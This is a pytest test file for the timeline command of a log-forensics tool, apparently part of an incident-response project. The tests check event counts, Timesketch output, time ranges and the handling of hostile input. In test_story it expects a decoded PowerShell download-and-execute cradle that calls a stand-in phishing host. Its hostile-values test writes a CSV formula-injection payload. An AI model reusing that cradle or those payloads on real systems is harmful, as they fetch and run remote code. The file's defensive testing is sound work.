"""`tocsin timeline` on real logs, against what is counted here; forms, ranges, hostile values, wrong usage."""

from __future__ import annotations

import base64
import csv
import json
from collections import Counter
from datetime import datetime, timedelta
from pathlib import Path

import msgspec
import pytest
from test_cli import HOSTILE, tocsin

from shared_data import shared
from tocsin.findings import Finding
from tocsin.incidents import join
from tocsin.runs.evidence import read_events
from tocsin.sources.interface import Loss

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "water-utility" / "evidence"
KINDS = {
    ("security", "4624"): "logon",
    ("security", "4648"): "logon",
    ("security", "4625"): "logon failure",
    ("security", "4688"): "process",
    ("microsoft-windows-sysmon/operational", "1"): "process",
    ("microsoft-windows-sysmon/operational", "3"): "connection",
    ("security", "5156"): "connection",
    ("security", "4697"): "service",
    ("system", "7045"): "service",
    ("security", "4698"): "task",
    ("security", "4699"): "task",
    ("security", "4702"): "task",
    ("security", "1102"): "log cleared",
    ("system", "104"): "log cleared",
    ("security", "4720"): "account",
    ("security", "4722"): "account",
    ("security", "4724"): "account",
    ("security", "4725"): "account",
    ("security", "4726"): "account",
    **{("security", number): "account" for number in ("4723", "4729", "4733", "4738", "4740", "4741", "4742", "4743")},
    **{("security", number): "account" for number in ("4757", "4767", "4781")},
    ("security", "4728"): "account",
    ("security", "4732"): "account",
    ("security", "4756"): "account",
    ("microsoft-windows-powershell/operational", "4104"): "powershell",
    ("windows powershell", "400"): "powershell",
    ("auditd", "process"): "process",
    ("auditd", "USER_LOGIN"): "logon",
    ("conn", ""): "connection",
}
TASKS = {"106", "140", "141"}


@pytest.fixture(scope="module")
def logs() -> list[Path]:
    """Return real logs of several kinds."""
    archives = ("cmd_psexec_lsa_secrets_dump", "empire_wmic_add_user_backdoor", "empire_schtasks_creation_standard_user")
    folders = ("Persistence", "Credential Access")
    return [
        *(shared("otrf", f"{name}.zip") for name in archives),
        *(path for name in folders for path in sorted(shared("evtx-attack-samples", name).glob("*.evtx"))),
        shared("otrf", "metasploit_sharpdump_lsass_memory_dump_zeek_logs.zip"),
        EXAMPLE / "historian" / "audit.log",
    ]


def rows(*arguments: object) -> list[dict]:
    """Return the rows of a timeline."""
    done = tocsin("timeline", *arguments, "--format", "jsonl", "--quiet")
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_counts(logs: list[Path]) -> None:
    """Each event that tells of something is one row, in order of time; the number of workers changes nothing."""
    wanted: Counter[str] = Counter()
    for path in logs:
        for event in read_events(path):
            if isinstance(event, Loss) or not event.time:
                continue
            key = (event.gate.channel.casefold(), event.gate.event_id)
            kind = KINDS.get(key, "task" if "taskscheduler" in key[0] and key[1] in TASKS else "")
            wanted[kind] += bool(kind)
    found = rows(*logs, "--jobs", 1)
    assert Counter(row["kind"] for row in found) == +wanted
    assert set(wanted) >= {"logon", "process", "service", "task", "account", "powershell", "connection", "log cleared"}
    times = [row["datetime"] for row in found]
    assert times == sorted(times)
    assert rows(*logs, "--jobs", 2) == found


def test_timesketch_form(logs: list[Path], tmp_path: Path) -> None:
    """JSON Lines and CSV have the keys that Timesketch needs, with times that it can read; both hold the same."""
    lines, table = tmp_path / "t.jsonl", tmp_path / "t.csv"
    assert tocsin("timeline", *logs, "-o", lines, "--quiet").returncode == 0
    assert tocsin("timeline", *logs, "-o", table, "--quiet").returncode == 0
    found = [json.loads(line) for line in lines.read_text().splitlines()]
    assert all(row["message"] and row["timestamp_desc"] == "Event Logged" for row in found)
    assert all(datetime.fromisoformat(row["datetime"]).utcoffset().total_seconds() == 0 for row in found)
    cells = list(csv.DictReader(table.read_text().splitlines()))
    assert set(cells[0]) == set(found[0])
    assert {"message", "datetime", "timestamp_desc"} <= set(cells[0])
    assert [(row["datetime"], row["kind"], int(row["record"])) for row in cells] == [
        (row["datetime"], row["kind"], row["record"]) for row in found
    ]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row.values())


def test_story() -> None:
    """The example's timeline tells the intrusion, with what the encoded command says."""
    found = rows(EXAMPLE, "--around", "2026-10-06T06:13:05Z", "--window", "10s", "--host", "office-pc-07")
    assert [row["kind"] for row in found] == ["process", "connection", "process", "powershell", "connection"]
    assert "mshta.exe started by" in found[0]["message"]
    assert found[2]["decoded"] == ["IEX (New-Object Net.WebClient).DownloadString('https://mail.billing-portal.example/u.ps1')"]
    assert "203.0.113.77:443" in found[4]["message"]
    assert rows(EXAMPLE, "--kind", "log cleared")
    assert {row["kind"] for row in rows(EXAMPLE, "--kind", "service", "--kind", "task")} <= {"service", "task"}
    assert not rows(EXAMPLE, "--host", "nobody")


def test_range() -> None:
    """A range holds its beginning and not its end."""
    every = rows(EXAMPLE)
    middle = every[len(every) // 2]["datetime"].replace("+00:00", "Z")
    early, late = rows(EXAMPLE, "--until", middle), rows(EXAMPLE, "--since", middle)
    assert early + late == every
    assert late[0]["datetime"].replace("+00:00", "Z") == middle


def test_hostile_values(tmp_path: Path) -> None:
    """Names from events, and what their encoded parts say, reach the screen and the CSV harmless."""
    script = base64.b64encode(f"=cmd|'/C calc'!A0 {HOSTILE} ok ok ok ok ok ok ok ok".encode("utf-16-le")).decode()
    rows = [
        {"Channel": "Security", "EventID": 4624, "TargetUserName": HOSTILE, "LogonType": [[]], "Hostname": "=1+1"},
        {"Channel": "System", "EventID": 7045, "ServiceName": "=HYPERLINK(1)", "ImagePath": {"a": HOSTILE}},
        {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": f"powershell -enc {script}"},
        {"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104, "ScriptBlockText": HOSTILE * 2000},
        {"Channel": "Security", "EventID": 4698, "TaskContent": "<Command>" * 50_000},
    ]
    path = tmp_path / "a.jsonl"
    path.write_text("".join(json.dumps({"TimeCreated": "2026-01-02T03:04:05Z"} | row) + "\n" for row in rows))
    done = tocsin("timeline", path)
    assert done.returncode == 0
    assert len([line for line in done.stdout.decode().splitlines() if line.startswith("2026")]) == len(rows)
    assert not {"\x1b", "\u202e", "\x9b", "\x07", "\r", "\u2028"} & set((done.stdout + done.stderr).decode())
    out = tmp_path / "t.csv"
    assert tocsin("timeline", path, "-o", out).returncode == 0
    before = csv.field_size_limit(1 << 24)
    cells = [cell for row in csv.reader(out.read_text().splitlines()) for cell in row]
    csv.field_size_limit(before)
    assert not any(cell.startswith("=") for cell in cells)


def test_untimed_is_told(tmp_path: Path) -> None:
    """What has no time has no place on the timeline, and that is told."""
    path = tmp_path / "a.jsonl"
    path.write_text('{"Channel": "Security", "EventID": 1102}\n' * 3)
    done = tocsin("timeline", path)
    assert done.stdout == b""
    assert "3 activities without a time left out" in done.stderr.decode()


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the findings of the example."""
    path = tmp_path_factory.mktemp("found") / "findings.jsonl"
    assert tocsin("scan", EXAMPLE, "--site", EXAMPLE.parent / "site.yml", "-o", path, "--quiet").returncode == 0
    return path


def test_around_an_incident(findings: Path) -> None:
    """Its hosts, its time and a window; every event on which something was found is told, with what it was, and no other is."""
    found = [json.loads(line) for line in findings.read_bytes().splitlines()]
    incident = join([msgspec.convert(item, Finding) for item in found]).incidents[0]
    members = [found[member.number - 1] for member in incident.members]
    told = rows(EXAMPLE, "--incident", incident.id.lower(), "--findings", findings, "--window", "1m")
    wanted: dict[tuple[str, int], list[str]] = {}
    for item in members:
        wanted.setdefault((item["source"]["path"], item["source"]["record"]), []).append(item["rule"]["title"])
    marked = {(row["source"], row["record"]): row["findings"] for row in told if row["findings"]}
    assert marked == wanted
    assert {row["host"] for row in told if not row["findings"]} <= set(incident.hosts)
    times = sorted(row["datetime"] for row in told)
    begin, end = (datetime.fromisoformat(time) for time in (incident.first, incident.last))
    assert begin - timedelta(minutes=1) <= datetime.fromisoformat(times[0]) < begin
    assert end < datetime.fromisoformat(times[-1]) < end + timedelta(minutes=1)
    assert {row["kind"] for row in told} >= {"process", "finding"}


def test_no_such_incident(findings: Path, tmp_path: Path) -> None:
    """What is not there is answered with what is almost so, or with what there is."""
    done = tocsin("timeline", EXAMPLE, "--incident", "I-95668B1F7", "--findings", findings)
    assert (done.returncode, b"did you mean 'I-95668B1F79'" in done.stderr) == (2, True)
    assert b"lists them: I-95668B1F79" in tocsin("timeline", EXAMPLE, "--incident", "7", "--findings", findings).stderr
    (tmp_path / "empty.jsonl").touch()
    assert b"no incident" in tocsin("timeline", EXAMPLE, "--incident", "7", "--findings", tmp_path / "empty.jsonl").stderr
    for options in (
        ["--incident", "7"],
        ["--findings", findings],
        ["--incident", "7", "--findings", findings, "--around", "2026"],
    ):
        assert b"[U002]" in tocsin("timeline", EXAMPLE, *options).stderr
    before = findings.read_bytes()
    assert tocsin("timeline", EXAMPLE, "--incident", "7", "--findings", findings, "-o", findings).returncode == 2
    assert findings.read_bytes() == before


@pytest.mark.parametrize(
    "options",
    [
        ("--around", "soon"),
        ("--around", "2026-01-01T00:00:00Z", "--window", "long"),
        ("--around", "2026-01-01T00:00:00Z", "--window", "999999d"),
        ("--around", "2026-01-01T00:00:00Z", "--since", "2026-01-01"),
        ("--since", "2026-01-02", "--until", "2026-01-01"),
        ("--kind", "party"),
        ("--format", "pdf"),
    ],
)
def test_wrong_usage(options: tuple[str, ...]) -> None:
    """A wrong option is exit 2 with a code."""
    done = tocsin("timeline", EXAMPLE, *options)
    assert done.returncode == 2
    assert b"[U002]" in done.stderr


def test_files(tmp_path: Path) -> None:
    """No file, a file that is no log, a damaged one, and an output over evidence."""
    assert tocsin("timeline", tmp_path / "missing").returncode == 2
    (tmp_path / "a.bin").write_bytes(b"\x00\x01")
    assert tocsin("timeline", tmp_path / "a.bin").returncode == 3
    log = tmp_path / "a.jsonl"
    log.write_text('{"Channel": "Security", "EventID": 1102, "TimeCreated": "2026-01-02T03:04:05Z"}\n{"Channel": 1}\n{broken\n')
    assert tocsin("timeline", log).returncode == 0
    assert tocsin("timeline", log, "--strict").returncode == 4
    assert tocsin("timeline", log, "-o", log).returncode == 2
